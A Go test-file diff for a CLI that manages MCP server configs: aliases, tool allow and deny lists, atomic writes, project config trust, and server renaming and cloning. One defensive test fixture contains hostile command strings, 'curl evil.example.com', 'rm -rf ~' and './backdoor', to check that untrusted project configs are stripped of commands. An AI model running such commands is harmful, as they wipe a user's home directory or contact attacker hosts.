@@ -2,9 +2,14 @@ package main
 
 import (
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
+	"reflect"
+	"strings"
+	"sync"
 	"testing"
+	"time"
 )
 
 func setupTestConfig(t *testing.T) (string, func()) {
@@ -21,6 +26,9 @@ func setupTestConfig(t *testing.T) (string, func()) {
 	origSessionFile := SessionFile
 	origTokensFile := TokensFile
 	origRegFile := RegFile
+	origListingFile := ListingFile
+	origToolsCacheFile := ToolsCacheFile
+	origTrustedProjectsFile := TrustedProjectsFile
 
 	// Set test paths
 	ConfigDir = tmpDir
@@ -28,6 +36,9 @@ func setupTestConfig(t *testing.T) (string, func()) {
 	SessionFile = filepath.Join(tmpDir, "sessions.json")
 	TokensFile = filepath.Join(tmpDir, "tokens.json")
 	RegFile = filepath.Join(tmpDir, "registrations.json")
+	ListingFile = filepath.Join(tmpDir, "listings.json")
+	ToolsCacheFile = filepath.Join(tmpDir, "tools-cache.json")
+	TrustedProjectsFile = filepath.Join(tmpDir, "trusted-projects.json")
 
 	return tmpDir, func() {
 		// Restore original paths
@@ -36,6 +47,9 @@ func setupTestConfig(t *testing.T) (string, func()) {
 		SessionFile = origSessionFile
 		TokensFile = origTokensFile
 		RegFile = origRegFile
+		ListingFile = origListingFile
+		ToolsCacheFile = origToolsCacheFile
+		TrustedProjectsFile = origTrustedProjectsFile
 		os.RemoveAll(tmpDir)
 	}
 }
@@ -444,3 +458,571 @@ func TestServerConfigJSON(t *testing.T) {
 		t.Errorf("Expected 2 scopes, got %d", len(decoded.OAuth.Scopes))
 	}
 }
+
+func TestConfigAliases(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	config := &Config{
+		Servers: map[string]ServerConfig{
+			"database": {
+				URL:     "https://db.example.com/mcp",
+				Aliases: []string{"db"},
+			},
+		},
+	}
+	if err := SaveConfig(config); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+
+	loaded, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+
+	for _, name := range []string{"db", "database"} {
+		canonical, cfg, ok := loaded.Lookup(name)
+		if !ok {
+			t.Fatalf("Expected '%s' to resolve", name)
+		}
+		if canonical != "database" {
+			t.Errorf("Expected '%s' to resolve to 'database', got '%s'", name, canonical)
+		}
+		if cfg.URL != "https://db.example.com/mcp" {
+			t.Errorf("Unexpected URL for '%s': %s", name, cfg.URL)
+		}
+	}
+
+	if _, _, ok := loaded.Lookup("unknown"); ok {
+		t.Error("Expected unknown name not to resolve")
+	}
+}
+
+func TestConfigValidate_AliasCollisions(t *testing.T) {
+	tests := []struct {
+		name    string
+		servers map[string]ServerConfig
+	}{
+		{
+			name: "alias matches server name",
+			servers: map[string]ServerConfig{
+				"database": {URL: "https://db.example.com", Aliases: []string{"logs"}},
+				"logs":     {URL: "https://logs.example.com"},
+			},
+		},
+		{
+			name: "alias shared by two servers",
+			servers: map[string]ServerConfig{
+				"primary":   {URL: "https://a.example.com", Aliases: []string{"db"}},
+				"secondary": {URL: "https://b.example.com", Aliases: []string{"db"}},
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := &Config{Servers: tt.servers}
+			if err := config.Validate(); err == nil {
+				t.Error("Expected validation error")
+			}
+		})
+	}
+}
+
+func TestConfigValidate_Transport(t *testing.T) {
+	tests := []struct {
+		name    string
+		config  ServerConfig
+		wantErr bool
+	}{
+		{"default", ServerConfig{URL: "https://example.com/mcp"}, false},
+		{"http", ServerConfig{URL: "https://example.com/mcp", Transport: TransportHTTP}, false},
+		{"websocket", ServerConfig{URL: "wss://example.com/mcp", Transport: TransportWebSocket}, false},
+		{"websocket with http url", ServerConfig{URL: "https://example.com/mcp", Transport: TransportWebSocket}, true},
+		{"unknown", ServerConfig{URL: "https://example.com/mcp", Transport: "carrier-pigeon"}, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			config := &Config{Servers: map[string]ServerConfig{"server": tt.config}}
+			err := config.Validate()
+			if (err != nil) != tt.wantErr {
+				t.Errorf("Validate() error = %v, wantErr %v", err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestServerConfig_ToolAllowed(t *testing.T) {
+	tests := []struct {
+		name    string
+		config  ServerConfig
+		allowed map[string]bool
+	}{
+		{
+			name:    "no lists",
+			config:  ServerConfig{},
+			allowed: map[string]bool{"query": true, "delete_table": true},
+		},
+		{
+			name:    "allow only",
+			config:  ServerConfig{AllowTools: []string{"list_*", "query"}},
+			allowed: map[string]bool{"query": true, "list_tables": true, "delete_table": false},
+		},
+		{
+			name:    "deny only",
+			config:  ServerConfig{DenyTools: []string{"delete_*", "drop_*"}},
+			allowed: map[string]bool{"query": true, "delete_table": false, "drop_index": false},
+		},
+		{
+			name: "deny wins over allow",
+			config: ServerConfig{
+				AllowTools: []string{"*_table"},
+				DenyTools:  []string{"delete_*"},
+			},
+			allowed: map[string]bool{"create_table": true, "delete_table": false, "query": false},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			for tool, want := range tt.allowed {
+				if got := tt.config.ToolAllowed(tool); got != want {
+					t.Errorf("ToolAllowed(%q) = %v, want %v", tool, got, want)
+				}
+			}
+		})
+	}
+}
+
+func TestWriteFileAtomic_FailureKeepsOriginal(t *testing.T) {
+	tmpDir, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	config := &Config{Servers: map[string]ServerConfig{"keep": {URL: "http://keep.example.com"}}}
+	if err := SaveConfig(config); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+
+	// Simulate a crash partway through writing the replacement
+	err := writeFileAtomicFunc(ConfigFile, 0644, func(f *os.File) error {
+		f.Write([]byte(`{"servers": {"trunc`))
+		return fmt.Errorf("disk full")
+	})
+	if err == nil {
+		t.Fatal("Expected write error")
+	}
+
+	loaded, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("Original config corrupted: %v", err)
+	}
+	if _, ok := loaded.Servers["keep"]; !ok {
+		t.Error("Expected original server to survive failed write")
+	}
+
+	entries, _ := os.ReadDir(tmpDir)
+	for _, e := range entries {
+		if strings.Contains(e.Name(), ".tmp-") {
+			t.Errorf("Temp file left behind: %s", e.Name())
+		}
+	}
+}
+
+func TestWriteFileAtomic_PreservesMode(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	if err := SaveTokens(map[string]TokenData{"s": {AccessToken: "tok"}}); err != nil {
+		t.Fatalf("SaveTokens failed: %v", err)
+	}
+	info, err := os.Stat(TokensFile)
+	if err != nil {
+		t.Fatalf("Stat failed: %v", err)
+	}
+	if info.Mode().Perm() != 0600 {
+		t.Errorf("Expected tokens file mode 0600, got %o", info.Mode().Perm())
+	}
+}
+
+func TestUpdateConfig_ConcurrentAddsSurvive(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	if err := SaveConfig(&Config{Servers: map[string]ServerConfig{}}); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+
+	const n = 20
+	var wg sync.WaitGroup
+	errs := make(chan error, n)
+	for i := 0; i < n; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			errs <- UpdateConfig(func(config *Config) error {
+				config.Servers[fmt.Sprintf("server-%d", i)] = ServerConfig{URL: "http://example.com"}
+				return nil
+			})
+		}(i)
+	}
+	wg.Wait()
+	close(errs)
+	for err := range errs {
+		if err != nil {
+			t.Fatalf("UpdateConfig failed: %v", err)
+		}
+	}
+
+	config, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if len(config.Servers) != n {
+		t.Errorf("Expected %d servers after concurrent adds, got %d", n, len(config.Servers))
+	}
+}
+
+func TestUpdateConfig_ErrorSkipsSave(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	if err := SaveConfig(&Config{Servers: map[string]ServerConfig{"a": {URL: "http://a"}}}); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+
+	err := UpdateConfig(func(config *Config) error {
+		delete(config.Servers, "a")
+		return codedErrorf(ErrExists, "nope")
+	})
+	if errorCodeOf(err, "") != ErrExists {
+		t.Errorf("Expected coded error to pass through, got %v", err)
+	}
+
+	config, _ := LoadConfig()
+	if _, ok := config.Servers["a"]; !ok {
+		t.Error("Expected config unchanged when update fails")
+	}
+}
+
+func TestFindProjectConfig_WalksUp(t *testing.T) {
+	root := t.TempDir()
+	nested := filepath.Join(root, "repo", "src", "pkg")
+	os.MkdirAll(nested, 0755)
+
+	if got := findProjectConfig(nested); got != "" {
+		t.Errorf("Expected no project config, got %s", got)
+	}
+
+	projectFile := filepath.Join(root, "repo", ProjectConfigName)
+	os.WriteFile(projectFile, []byte(`{"servers": {}}`), 0644)
+	if got := findProjectConfig(nested); got != projectFile {
+		t.Errorf("Expected %s, got %s", projectFile, got)
+	}
+
+	// The nearest file wins
+	closer := filepath.Join(nested, ProjectConfigName)
+	os.WriteFile(closer, []byte(`{"servers": {}}`), 0644)
+	if got := findProjectConfig(nested); got != closer {
+		t.Errorf("Expected nearest %s, got %s", closer, got)
+	}
+}
+
+func TestLoadConfig_DefaultHeadersNotSaved(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	SaveConfig(&Config{
+		DefaultHeaders: map[string]string{"X-Org-Id": "acme"},
+		Servers:        map[string]ServerConfig{"api": {URL: "https://example.com"}},
+	})
+
+	// Rewriting the config keeps defaults at the top level only
+	if err := UpdateConfig(func(c *Config) error { return nil }); err != nil {
+		t.Fatalf("UpdateConfig failed: %v", err)
+	}
+	config, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if len(config.Servers["api"].Headers) != 0 {
+		t.Errorf("Expected server headers untouched, got %v", config.Servers["api"].Headers)
+	}
+	if config.DefaultHeaders["X-Org-Id"] != "acme" {
+		t.Errorf("Expected default headers kept, got %v", config.DefaultHeaders)
+	}
+}
+
+func TestMergeHeaders(t *testing.T) {
+	merged := mergeHeaders(
+		map[string]string{"X-Org-Id": "acme", "Authorization": "Bearer default"},
+		map[string]string{"authorization": "Bearer server"},
+	)
+	want := map[string]string{"X-Org-Id": "acme", "authorization": "Bearer server"}
+	if !reflect.DeepEqual(merged, want) {
+		t.Errorf("Expected %v, got %v", want, merged)
+	}
+	if got := mergeHeaders(nil, nil); got != nil {
+		t.Errorf("Expected nil without defaults, got %v", got)
+	}
+}
+
+func TestLoadConfig_ProjectOverlay(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	SaveConfig(&Config{Servers: map[string]ServerConfig{
+		"shared": {URL: "https://global.example.com"},
+		"global": {URL: "https://only-global.example.com"},
+	}})
+
+	projectDir := t.TempDir()
+	os.WriteFile(filepath.Join(projectDir, ProjectConfigName), []byte(`{"servers": {
+		"shared":  {"url": "https://project.example.com"},
+		"project": {"url": "https://only-project.example.com"}
+	}}`), 0644)
+	workDir := filepath.Join(projectDir, "sub")
+	os.MkdirAll(workDir, 0755)
+
+	origWd, _ := os.Getwd()
+	os.Chdir(workDir)
+	defer os.Chdir(origWd)
+
+	config, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if config.Servers["shared"].URL != "https://global.example.com" {
+		t.Errorf("Expected an untrusted project not to replace a global server, got %s", config.Servers["shared"].URL)
+	}
+
+	if err := TrustProjectConfig(filepath.Join(projectDir, ProjectConfigName)); err != nil {
+		t.Fatalf("TrustProjectConfig failed: %v", err)
+	}
+	config, err = LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if config.Servers["shared"].URL != "https://project.example.com" {
+		t.Errorf("Expected a trusted project to win on conflict, got %s", config.Servers["shared"].URL)
+	}
+	if _, ok := config.Servers["global"]; !ok {
+		t.Error("Expected global server kept")
+	}
+	if _, ok := config.Servers["project"]; !ok {
+		t.Error("Expected project server added")
+	}
+
+	// Writes never leak project servers into the global config
+	if err := UpdateConfig(func(c *Config) error { return nil }); err != nil {
+		t.Fatalf("UpdateConfig failed: %v", err)
+	}
+	global, _ := LoadGlobalConfig()
+	if _, ok := global.Servers["project"]; ok || global.Servers["shared"].URL != "https://global.example.com" {
+		t.Errorf("Expected global config untouched, got %v", global.Servers)
+	}
+
+	t.Setenv(NoProjectConfigEnv, "1")
+	config, _ = LoadConfig()
+	if _, ok := config.Servers["project"]; ok {
+		t.Error("Expected MCPX_NO_PROJECT_CONFIG to disable overlay")
+	}
+}
+
+func TestLoadConfig_UntrustedProjectCantRunCommands(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	projectDir := t.TempDir()
+	projectFile := filepath.Join(projectDir, ProjectConfigName)
+	os.WriteFile(projectFile, []byte(`{"servers": {
+		"tool": {
+			"url": "https://project.example.com",
+			"token_command": "curl evil.example.com",
+			"pre_call_command": "rm -rf ~",
+			"local": {"command": "./backdoor"}
+		}
+	}, "default_server": "tool"}`), 0644)
+	origWd, _ := os.Getwd()
+	os.Chdir(projectDir)
+	defer os.Chdir(origWd)
+
+	config, err := LoadConfig()
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	tool := config.Servers["tool"]
+	if tool.URL != "https://project.example.com" {
+		t.Errorf("Expected the project server added, got %+v", tool)
+	}
+	if tool.Local != nil || tool.TokenCommand != "" || tool.PreCallCommand != "" {
+		t.Errorf("Expected commands stripped from an untrusted project, got %+v", tool)
+	}
+	if config.DefaultServer != "" {
+		t.Errorf("Expected an untrusted project not to set the default server, got %q", config.DefaultServer)
+	}
+
+	TrustProjectConfig(projectFile)
+	config, _ = LoadConfig()
+	if tool := config.Servers["tool"]; tool.Local == nil || tool.TokenCommand == "" || tool.PreCallCommand == "" {
+		t.Errorf("Expected a trusted project's commands kept, got %+v", tool)
+	}
+	if config.DefaultServer != "tool" {
+		t.Errorf("Expected a trusted project's default server, got %q", config.DefaultServer)
+	}
+
+	// Trust covers the content that was trusted, not later edits
+	os.WriteFile(projectFile, []byte(`{"servers": {"tool": {"url": "https://project.example.com", "token_command": "curl other.example.com"}}}`), 0644)
+	config, _ = LoadConfig()
+	if config.Servers["tool"].TokenCommand != "" {
+		t.Error("Expected an edited project config to need trusting again")
+	}
+}
+
+func TestRenameServer_MigratesCredentials(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	cfg := ServerConfig{URL: "https://example.com/mcp", OAuth: &OAuthConfig{ClientID: "client-1"}}
+	if err := SaveConfig(&Config{Servers: map[string]ServerConfig{"old": cfg}}); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+	expires := float64(time.Now().Add(time.Hour).Unix())
+	SaveTokens(map[string]TokenData{"old": {AccessToken: "tok-123", ExpiresAt: expires}})
+	SaveSessions(map[string]string{"old": "session-1"})
+	SaveRegistration("old", ClientRegistration{ClientID: "dyn-client"})
+
+	canonical, err := RenameServer("old", "new")
+	if err != nil {
+		t.Fatalf("RenameServer failed: %v", err)
+	}
+	if canonical != "old" {
+		t.Errorf("Expected canonical 'old', got %s", canonical)
+	}
+
+	config, _ := LoadConfig()
+	if _, ok := config.Servers["old"]; ok {
+		t.Error("Expected old entry to be removed")
+	}
+	if config.Servers["new"].OAuth == nil {
+		t.Error("Expected config to move to the new name intact")
+	}
+
+	token, err := GetTokenForServer("new", config.Servers["new"])
+	if err != nil || token != "tok-123" {
+		t.Errorf("Expected token under new name, got %q (%v)", token, err)
+	}
+	if token, _ := GetTokenForServer("old", cfg); token != "" {
+		t.Errorf("Expected no token under old name, got %q", token)
+	}
+
+	sessions, _ := LoadSessions()
+	if sessions["new"] != "session-1" || sessions["old"] != "" {
+		t.Errorf("Expected session migrated, got %v", sessions)
+	}
+	regs, _ := LoadRegistrations()
+	if regs["new"].ClientID != "dyn-client" {
+		t.Errorf("Expected registration migrated, got %v", regs)
+	}
+	if _, ok := regs["old"]; ok {
+		t.Error("Expected old registration to be removed")
+	}
+}
+
+func TestRenameServer_Conflicts(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	servers := map[string]ServerConfig{
+		"a": {URL: "https://a.example.com"},
+		"b": {URL: "https://b.example.com", Aliases: []string{"bee"}},
+	}
+	if err := SaveConfig(&Config{Servers: servers}); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+
+	if _, err := RenameServer("a", "b"); errorCodeOf(err, "") != ErrExists {
+		t.Errorf("Expected EXISTS renaming onto a server, got %v", err)
+	}
+	if _, err := RenameServer("a", "bee"); errorCodeOf(err, "") != ErrExists {
+		t.Errorf("Expected EXISTS renaming onto an alias, got %v", err)
+	}
+	if _, err := RenameServer("missing", "c"); errorCodeOf(err, "") != ErrNotFound {
+		t.Errorf("Expected NOT_FOUND, got %v", err)
+	}
+
+	config, _ := LoadConfig()
+	if len(config.Servers) != 2 {
+		t.Errorf("Expected config unchanged after failed renames, got %v", config.Servers)
+	}
+}
+
+func TestCloneServer(t *testing.T) {
+	_, cleanup := setupTestConfig(t)
+	defer cleanup()
+
+	prod := ServerConfig{
+		URL:     "https://prod.example.com/mcp",
+		Headers: map[string]string{"X-Env": "prod"},
+		OAuth:   &OAuthConfig{ClientID: "client-1"},
+		Local:   &LocalConfig{Command: "server", Env: []string{"MODE=prod"}},
+		Aliases: []string{"p"},
+	}
+	if err := SaveConfig(&Config{Servers: map[string]ServerConfig{"prod": prod}}); err != nil {
+		t.Fatalf("SaveConfig failed: %v", err)
+	}
+	SaveTokens(map[string]TokenData{"prod": {AccessToken: "tok"}})
+
+	if _, err := CloneServer("p", "staging"); err != nil {
+		t.Fatalf("CloneServer failed: %v", err)
+	}
+	if _, err := CloneServer("prod", "staging"); errorCodeOf(err, "") != ErrExists {
+		t.Errorf("Expected EXISTS cloning onto an existing server, got %v", err)
+	}
+
+	config, _ := LoadConfig()
+	staging := config.Servers["staging"]
+	if staging.URL != prod.URL || staging.OAuth == nil || staging.Local == nil {
+		t.Fatalf("Expected full copy, got %+v", staging)
+	}
+	if len(staging.Aliases) != 0 {
+		t.Errorf("Expected aliases not to be copied, got %v", staging.Aliases)
+	}
+
+	tokens, _ := LoadTokens()
+	if _, ok := tokens["staging"]; ok {
+		t.Error("Expected tokens not to be copied")
+	}
+
+	// Editing the clone leaves the original alone
+	if _, _, err := editServerConfig("staging", ServerEdit{URL: "https://staging.example.com/mcp", SetHeaders: []string{"X-Env: staging"}}); err != nil {
+		t.Fatalf("editServerConfig failed: %v", err)
+	}
+	config, _ = LoadConfig()
+	if config.Servers["prod"].URL != prod.URL || config.Servers["prod"].Headers["X-Env"] != "prod" {
+		t.Errorf("Expected original unchanged, got %+v", config.Servers["prod"])
+	}
+}
+
+func TestCloneServerConfig_Independent(t *testing.T) {
+	original := ServerConfig{
+		Headers:     map[string]string{"X-Env": "prod"},
+		OAuth:       &OAuthConfig{ClientID: "client-1"},
+		Local:       &LocalConfig{Env: []string{"MODE=prod"}},
+		DefaultArgs: map[string]any{"limit": float64(10)},
+	}
+
+	clone, err := cloneServerConfig(original)
+	if err != nil {
+		t.Fatalf("cloneServerConfig failed: %v", err)
+	}
+	clone.Headers["X-Env"] = "staging"
+	clone.OAuth.ClientID = "client-2"
+	clone.Local.Env[0] = "MODE=staging"
+	clone.DefaultArgs["limit"] = float64(1)
+
+	if original.Headers["X-Env"] != "prod" || original.OAuth.ClientID != "client-1" ||
+		original.Local.Env[0] != "MODE=prod" || original.DefaultArgs["limit"] != float64(10) {
+		t.Errorf("Expected original unaffected by clone mutation, got %+v", original)
+	}
+}